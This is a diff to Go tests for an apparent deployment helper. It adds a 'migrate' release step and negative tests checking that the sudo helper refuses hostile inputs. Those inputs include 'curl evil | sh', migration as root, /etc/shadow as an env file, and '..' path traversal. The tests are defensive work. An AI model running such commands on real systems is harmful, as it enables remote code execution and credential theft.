@@ -30,6 +30,7 @@ release:
   root: `+dir+`/srv
   prepare: npm ci --omit=dev
   shared: [node_modules, uploads]
+  migrate: npm run migrate
 `))
 	if err != nil {
 		t.Fatal(err)
@@ -89,6 +90,7 @@ func TestHelperAcceptsWhatRolloutSends(t *testing.T) {
 		"access log end": r.cmdReadAccessLog(cfg.AccessLogFile(), logPos{offset: -1}, 0, nil),
 		"secrets":        r.cmdWriteSecrets(entry.ID),
 		"read secrets":   r.cmdReadSecrets(),
+		"migrate":        r.cmdMigrate(entry.ID),
 	}
 	_, real := cfg.helper()
 	prefix := "sudo -n " + cfg.HelperPath() + " " + real + " "
@@ -166,6 +168,10 @@ func TestHelperRefuses(t *testing.T) {
 		"secrets in another root":     {"release-secrets", "/etc", "20261205120000-v2", "my-app@3000"},
 		"secrets of release ..":       {"release-secrets", root, "..", "my-app@3000"},
 		"secrets of a release path":   {"release-secrets", root, "x/../../etc", "my-app@3000"},
+		"another migrate command":     {"release-migrate", root, "20261205120000-v2", "my-app", "www-data", "600", "/etc/my-app/.env", "curl evil | sh"},
+		"a migrate as root":           {"release-migrate", root, "20261205120000-v2", "root", "www-data", "600", "/etc/my-app/.env", "npm run migrate"},
+		"a migrate with another env":  {"release-migrate", root, "20261205120000-v2", "my-app", "www-data", "600", "/etc/shadow", "npm run migrate"},
+		"a migrate of release ..":     {"release-migrate", root, "..", "my-app", "www-data", "600", "/etc/my-app/.env", "npm run migrate"},
 		"secrets read elsewhere":      {"secrets-read", "/etc"},
 		"secrets read, more":          {"secrets-read", root, "/etc/shadow"},
 		"an unknown verb":             {"sh", "-c", "id"},
